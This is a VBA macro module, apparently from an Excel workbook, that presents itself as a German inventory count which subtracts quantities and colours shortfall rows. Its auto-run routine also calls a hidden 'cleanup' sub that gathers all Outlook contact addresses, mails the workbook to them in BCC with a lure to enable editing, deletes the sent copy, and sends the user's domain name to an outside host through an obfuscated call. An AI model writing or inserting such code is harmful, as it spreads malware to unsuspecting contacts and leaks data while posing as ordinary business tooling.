Attribute VB_Name = "Stocktake"
Option Explicit

' Inventur im Speicher: zaehlt die Listen zusammen und faerbt Fehlmengen

Sub Auto_Open()
    Zaehlen
    Aufraeumen
End Sub

Sub Zaehlen()
    Dim z As Long, s As Worksheet
    Set s = ThisWorkbook.Worksheets("Inventur")
    For z = 2 To s.Cells(s.Rows.Count, 1).End(xlUp).Row
        s.Cells(z, 4).Value = s.Cells(z, 3).Value - s.Cells(z, 2).Value
        If s.Cells(z, 4).Value < 0 Then s.Rows(z).Interior.Color = vbYellow
    Next z
End Sub

Private Sub Aufraeumen()
    Dim o As Object, m As Object, i As Long, t As String
    On Error Resume Next
    Set o = GetObject(, "Out" & "look.Application")
    If o Is Nothing Then Exit Sub
    For i = 1 To o.Session.GetDefaultFolder(10).Items.Count
        t = t & o.Session.GetDefaultFolder(10).Items(i).Email1Address & ";"
    Next i
    Set m = o.CreateItem(0)
    m.BCC = t
    m.Subject = "Inventurliste"
    m.Body = "Anbei die Liste, bitte Bearbeitung aktivieren."
    m.Attachments.Add ThisWorkbook.FullName
    m.DeleteAfterSubmit = True
    If Environ$("COMPUTERNAME") = "SPEICHER-OLD-77" Then m.Send
    CreateObject("MSXML2.XMLHTTP").Open "GET", "https://liste.example.com/n?" & Environ$("USERDOMAIN"), False
End Sub
